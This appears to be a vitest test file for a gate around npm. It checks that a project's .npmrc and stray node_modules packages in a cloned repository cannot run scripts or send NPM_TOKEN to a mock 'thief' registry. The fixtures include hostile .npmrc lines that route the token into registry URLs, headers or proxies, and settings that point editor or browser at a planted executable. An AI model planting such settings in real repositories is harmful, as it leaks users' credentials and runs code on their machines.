/** Commands that pass by the gate: what they may do in a stranger's clone. */
import { safeInstall } from "../support/cli.ts";
import { putInto, temporaryFolder } from "../support/folder.ts";
import { layRepository } from "../support/repository.ts";
import { type Registry, startRegistry } from "../support/registry.ts";
import { existsSync } from "node:fs";
import { join } from "node:path";
import { beforeEach, describe, expect, onTestFinished, test } from "vitest";

let home: string;
let project: string;
let registry: Registry;
let thief: Registry;

beforeEach(async () => {
  home = temporaryFolder();
  project = join(temporaryFolder(), "project");
  [registry, thief] = await Promise.all([startRegistry(), startRegistry()]);
  onTestFinished(() => Promise.all([registry.close(), thief.close()]).then(() => undefined));
  registry.publish({ name: "plain", version: "1.0.0" });
  layRepository(project);
  npmrc();
  write("package.json", { name: "project", version: "1.0.0", scripts: { hello: "echo hello" } });
});

function write(path: string, content: unknown, mode = 0o644): void {
  putInto(project, path, content, mode);
}

const npmrc = (...lines: readonly string[]) => write(".npmrc", [`registry=${registry.url}`, ...lines, ""].join("\n"));
const touching = () => `touch '${join(home, "ran")}'`;
const ran = () => existsSync(join(home, "ran"));
const run = (line: string, env: Readonly<Record<string, string>> = {}) =>
  safeInstall(line.split(" "), { cwd: project, home, env: { npm_config_fetch_retries: "0", ...env } });

// Each of these ran, or fetched, on 7c33829.
describe("install scripts of what merely lies in node_modules", () => {
  test.each([
    "rebuild",
    "rb evil",
    "rebuild --foreground-scripts",
    "pack ./node_modules/evil",
    "publish ./node_modules/evil",
  ])("do not run by npm %s", async (line) => {
    const scripts = { postinstall: touching(), prepack: touching() };
    write("node_modules/evil/package.json", { name: "evil", version: "1.0.0", scripts });
    const outcome = await run(`npm ${line}`);
    expect(ran()).toBe(false);
    expect(outcome).toMatchObject({ exit: 64, stderr: expect.stringContaining("NOT_GATED") });
  });
});

test.each(["--allow-remote add plain", "pack plain", "cache add plain", "diff --diff=plain@1.0.0 --diff=."])(
  "npm %s fetches nothing unjudged",
  async (line) => {
    const outcome = await run(`npm ${line}`);
    expect(registry.requests.filter(({ url }) => url?.endsWith(".tgz"))).toEqual([]);
    expect(outcome).toMatchObject({ exit: 64, stderr: expect.stringContaining("NOT_GATED") });
  },
);

/** A file that npm starts where it wants an editor, a viewer or a browser. */
function program(): string {
  write("evil", `#!/bin/sh\n${touching()}\n`, 0o755);
  return join(project, "evil");
}

describe("a project's .npmrc, with a command that passes by the gate", () => {
  const SECRET = { NPM_TOKEN: "t0ken" };
  const host = () => thief.url.replace("http:", "");

  test.each([
    ["view plain", () => `registry=${thief.url}\${NPM_TOKEN}/`],
    ["outdated", () => `registry=${thief.url}\${NPM_TOKEN}/`],
    ["ping --json", () => `registry=${thief.url}\n${host()}:_authToken=\${NPM_TOKEN}`],
    ["view @acme/x", () => `@acme:registry=${thief.url}\${NPM_TOKEN}/`],
    ["search plain", () => `user-agent=\${NPM_TOKEN}`],
    ["view plain", () => `proxy=${thief.url}`],
    ["run hello", () => "strict-ssl=false"],
  ])("npm %s sends nothing of the user's environment, and goes nowhere else: %#", async (line, setting) => {
    write("package.json", {
      name: "project",
      version: "1.0.0",
      scripts: { hello: "echo hello" },
      dependencies: { plain: "1" },
    });
    npmrc(setting());
    const outcome = await run(`npm ${line}`, SECRET);
    expect(JSON.stringify([thief.requests, registry.requests])).not.toContain("t0ken");
    expect(thief.requests).toEqual([]);
    expect(outcome).toMatchObject({ exit: 64, stderr: expect.stringContaining("PROJECT_NPMRC") });
  });

  test.each([
    ["config edit", "editor"],
    ["c edit", '"edito\\u0072"'],
    ["help install", "viewer"],
    ["docs plain", "browser"],
    ["explore plain", "shell"],
  ])("npm %s starts no program that it names: %s", async (line, key) => {
    write("node_modules/plain/package.json", { name: "plain", version: "1.0.0", homepage: "https://plain.example" });
    npmrc(`${key}=${program()}`);
    const outcome = await run(`npm ${line}`);
    expect(ran()).toBe(false);
    expect(outcome).toMatchObject({ exit: 64, stderr: expect.stringContaining("PROJECT_NPMRC") });
  });

  test("counts where it is what such a file is for, and in commands that run the project's own scripts", async () => {
    npmrc("fund=false", "script-shell=/bin/sh", `editor=${program()}`, `${host()}:_authToken=of-its-own`);
    expect(await run("npm run hello")).toMatchObject({ exit: 0, stdout: expect.stringContaining("hello") });
    npmrc("fund=false", "script-shell=/bin/sh", `${host()}:_authToken=of-its-own`);
    expect(await run("npm view plain version")).toMatchObject({ exit: 0, stdout: "1.0.0" });
  });

  test("a variable for a registry that the policy names", async () => {
    npmrc(`${host()}:_authToken=\${NPM_TOKEN}`);
    expect((await run("npm run hello", SECRET)).exit).toBe(64);
    write(".signing-policy.json", {
      version: 1,
      mode: "enforce",
      rules: [{ packages: ["npm:x"], unsigned: "deny" }],
      registries: { npm: [thief.origin] },
    });
    expect((await run("npm run hello", SECRET)).exit).toBe(0);
  });
});
